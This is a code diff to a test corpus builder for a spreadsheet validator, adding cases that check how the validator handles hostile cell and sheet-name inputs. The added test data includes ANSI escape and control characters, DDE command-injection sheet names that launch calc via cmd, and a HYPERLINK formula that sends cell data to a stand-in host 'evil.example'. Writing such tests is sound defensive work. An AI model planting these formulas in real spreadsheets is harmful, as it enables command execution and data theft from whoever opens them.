@@ -34,6 +34,7 @@ from tests.corpus_parts import (
     ENTITIES,
     EXTERNAL_ENTITY,
     MIB,
+    added_sheet,
     as_text,
     biff_workbook,
     compound_file,
@@ -166,11 +167,7 @@ def build(space: Workspace) -> Corpus:
     cases = _file_cases()
     cases += _package_cases(mb)
     cases += _identity_cases(space, mb, old_version, other_period, foreign)
-    for made in (
-        _structure_cases(mb),
-        _value_cases(mb, akpa),
-        _text_cases(mb),
-    ):
+    for made in (_structure_cases(mb), _value_cases(mb, akpa), _text_cases(mb), _echo_cases(mb)):
         cases += [replace(c, institution=c.institution or "MB") for c in made]
     cases += poison_cases(mb, Case)
     duplicate = filled(space, "AKPA", seed=9)
@@ -638,6 +635,62 @@ def _text_cases(mb: bytes) -> list[Case]:
             exact=True,
             values=((("Measures", "A.1.1", "progress"), RTL_EMOJI),),
             institution="MB",
+        ),
+    ]
+
+
+def _echo_cases(mb: bytes) -> list[Case]:
+    """Text the validator echoes into its messages and the feedback copy: control characters,
+    a sheet name that is a DDE call, a formula in a locked Cover cell."""
+    bell = "Profili_x0007_ i migracionit_x001B_[31m"
+    hyperlink = '=HYPERLINK("http://evil.example/steal?d="&C6,"Strategjia")'
+    return [
+        Case(
+            "control-in-locked-title",
+            "control-in-locked-title.xlsx",
+            puts(mb, ("Measures", "A.1.1", "title", bell)),
+            ("return-locked-changed",),
+            exact=True,
+            about="a bell and an escape sequence typed into a locked title",
+        ),
+        Case(
+            "control-in-row-code",
+            "control-in-row-code.xlsx",
+            puts(mb, ("Measures", "A.1.1", "measure_code", "A.1.1_x0007_")),
+            ("return-row-added", "return-row-removed"),
+            exact=True,
+            about="a bell after a measure's code",
+        ),
+        Case(
+            "control-in-cover-institution",
+            "control-in-cover-institution.xlsx",
+            puts(mb, ("Cover", "institution", "value", "MB_x001B_[31m_x0000_")),
+            ("return-identity-changed", "return-locked-changed"),
+            exact=True,
+            about="an escape sequence and a NUL after the Cover's institution code",
+        ),
+        Case(
+            "sheet-added-dde",
+            "sheet-added-dde.xlsx",
+            added_sheet(mb, "=cmd|' /C calc'!A0"),
+            ("return-sheet-added",),
+            exact=True,
+            about="a sheet added whose name is a DDE call",
+        ),
+        Case(
+            "sheet-added-formula",
+            "sheet-added-formula.xlsx",
+            added_sheet(mb, "=cmd|'-C calc'!A0"),
+            ("return-sheet-added",),
+            exact=True,
+            about="a sheet added whose name is a formula (a name openpyxl can open)",
+        ),
+        Case(
+            "hyperlink-in-cover",
+            "hyperlink-in-cover.xlsx",
+            puts(mb, ("Cover", "strategy", "value", hyperlink)),
+            ("return-locked-changed",),
+            about="=HYPERLINK typed over the Cover's strategy name",
         ),
     ]
 
